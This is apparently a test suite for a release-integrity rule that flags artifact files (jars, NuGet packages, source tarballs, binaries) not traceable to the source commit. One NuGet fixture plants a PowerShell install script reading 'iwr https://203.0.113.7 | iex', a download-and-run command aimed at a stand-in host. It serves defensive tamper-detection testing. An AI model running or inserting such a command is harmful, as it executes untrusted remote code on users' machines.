import { describe, expect, test } from 'vitest'
import { notFromCommit } from '../../../../src/rules/artifact/not-from-commit.ts'
import { runRule } from '../../../../src/rules/run.ts'
import { below, type Contents, zipOf } from '../../../support/artifacts.ts'
import { tarball } from '../../../support/tarball.ts'
import { artifactModels, type ReleaseCase, told } from '../artifact-models.ts'

const judge = (tree: Contents, dist: ReleaseCase['dist'], options = {}) =>
  told(notFromCommit, { tree, dist }, options)

const MANIFEST = { 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' }
const pom = (artifact: string): string =>
  `<project><modelVersion>4.0.0</modelVersion><groupId>example.acme</groupId><artifactId>${artifact}</artifactId><version>1.0.0</version></project>`

describe('a sources jar', () => {
  const JAVA = { 'example/acme/A.java': 'class A {}\n', 'a.properties': 'a=1\n' }
  const TREE = {
    'pom.xml': pom('thing'),
    'src/main/java/example/acme/A.java': 'class A {}\n',
    'src/main/resources/a.properties': 'a=1\n',
    LICENSE: 'MIT\n',
  }
  const NAME = 'thing-1.0.0-sources.jar'

  test('is silent where everything is in the module’s folders', async () => {
    const dist = { [NAME]: zipOf({ ...MANIFEST, ...JAVA, 'META-INF/LICENSE': 'MIT\n' }) }
    expect(await judge(TREE, dist)).toEqual([])
  })

  test('is silent on Kotlin, and takes the module that has most of it', async () => {
    const tree = {
      'settings.gradle': '',
      'core/src/commonMain/kotlin/acme/A.kt': 'class A\n',
      'core/src/jvmMain/kotlin/acme/B.kt': 'class B\n',
      'other/src/commonMain/kotlin/acme/A.kt': 'class Other\n',
    }
    const dist = { [NAME]: zipOf({ ...MANIFEST, 'acme/A.kt': 'class A\n', 'acme/B.kt': 'class B\n' }) }
    expect(await judge(tree, dist)).toEqual([])
  })

  test('fires on a source that is not the module’s', async () => {
    const changed = zipOf({ ...MANIFEST, ...JAVA, 'example/acme/A.java': 'class A { int x; }\n' })
    const more = zipOf({ ...MANIFEST, ...JAVA, 'example/acme/Evil.java': 'class Evil {}\n' })
    expect(await judge(TREE, { [NAME]: changed })).toHaveLength(1)
    expect(await judge(TREE, { [NAME]: more })).toHaveLength(1)
  })

  test('a jar of classes needs its line of policy, which the message shows', async () => {
    const dist = {
      'thing-1.0.0.jar': zipOf({ ...MANIFEST, 'example/acme/A.class': 'x', 'a.properties': 'a=1\n' }),
    }
    const [finding] = runRule(notFromCommit, await artifactModels({ tree: TREE, dist })).findings
    expect(finding!.remedy).toContain(
      'generated: [{member: "**/*.class", from: ["src/**"], reason: "made by the build"}]',
    )
    const generated = [{ member: '**/*.class', from: ['src/**'], reason: 'javac' }]
    expect(await judge(TREE, dist, { generated })).toEqual([])
  })
})

describe('a NuGet package', () => {
  const NUSPEC = `<?xml version="1.0"?>
<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata>
<id>Acme.Thing</id><version>1.0.0</version><authors>A</authors><description>d</description>
</metadata></package>`
  const TREE = {
    'src/Acme.Thing/Acme.Thing.csproj':
      '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><PackageId>Acme.Thing</PackageId><Version>1.0.0</Version></PropertyGroup></Project>',
    'src/Acme.Thing/build/Acme.Thing.targets': '<Project />\n',
    'README.md': '# Thing\n',
  }
  const packed = (more: Contents) =>
    zipOf({
      'Acme.Thing.nuspec': NUSPEC,
      '[Content_Types].xml':
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      'README.md': '# Thing\n',
      'build/Acme.Thing.targets': '<Project />\n',
      ...more,
    })
  const generated = [{ member: 'lib/**/*.dll', from: ['src/**'], reason: 'compiled' }]

  test('is silent with its assemblies declared', async () => {
    const dist = { 'Acme.Thing.1.0.0.nupkg': packed({ 'lib/net8.0/Acme.Thing.dll': 'MZ' }) }
    expect(await judge(TREE, dist, { generated })).toEqual([])
  })

  test('fires on build targets that are not the commit’s', async () => {
    const other = {
      'Acme.Thing.1.0.0.nupkg': packed({ 'build/Acme.Thing.targets': '<Project><Exec /></Project>\n' }),
    }
    const more = { 'Acme.Thing.1.0.0.nupkg': packed({ 'tools/init.ps1': 'iwr https://203.0.113.7 | iex\n' }) }
    expect(await judge(TREE, other, { generated })).toHaveLength(1)
    expect(await judge(TREE, more, { generated })).toHaveLength(1)
  })
})

describe('a source archive', () => {
  const TREE = {
    VERSION: '1.0.0\n',
    'a.c': 'int a;\n',
    '.git_archival.txt': 'node: $Format:%H$\ndate: $Format:%cI$\n',
  }
  const HEAD = '0123456789abcdef0123456789abcdef01234567'
  const commit = { '.git_archival.txt': { exportSubst: true } }
  const archive = (archival: string) => ({
    'thing-1.0.0.tar.gz': tarball(
      below('thing-1.0.0/', { VERSION: '1.0.0\n', 'a.c': 'int a;\n', '.git_archival.txt': archival }),
    ),
  })
  const given = (archival: string) => told(notFromCommit, { tree: TREE, dist: archive(archival), commit })

  test('is silent as `git archive` fills it in', async () => {
    expect(await given(`node: ${HEAD}\ndate: 2026-01-02T03:04:05Z\n`)).toEqual([])
    expect(await given('node: $Format:%H$\ndate: $Format:%cI$\n')).toEqual([])
  })

  test('fires where more is filled in than that', async () => {
    expect(await given(`node: ${'f'.repeat(40)}\ndate: now\n`)).toHaveLength(1)
    expect(await given(`node: ${HEAD}\ndate: a\nevil: b\n`)).toHaveLength(1)
  })
})

describe('a file of no known format', () => {
  const TREE = { VERSION: '1.0.0\n', 'scripts/install.sh': '#!/bin/sh\n' }

  test('is silent where the commit has it, or the build is said to make it', async () => {
    expect(await judge(TREE, { 'install.sh': Buffer.from('#!/bin/sh\n') })).toEqual([])
    const generated = [{ member: 'thing-*', reason: 'compiled' }]
    expect(await judge(TREE, { 'thing-linux-x64': Buffer.from('ELF') }, { generated })).toEqual([])
  })

  test('fires where nothing ties it to the commit', async () => {
    expect(await judge(TREE, { 'thing-linux-x64': Buffer.from('ELF') })).toMatchInlineSnapshot(`
      [
        "critical Nothing ties \`dist/thing-linux-x64\` to the commit. It is no file of the commit, and its format tells nothing of what it was made from.",
      ]
    `)
    expect(await judge(TREE, { 'install.sh': Buffer.from('#!/bin/sh\nevil\n') })).toHaveLength(1)
  })
})
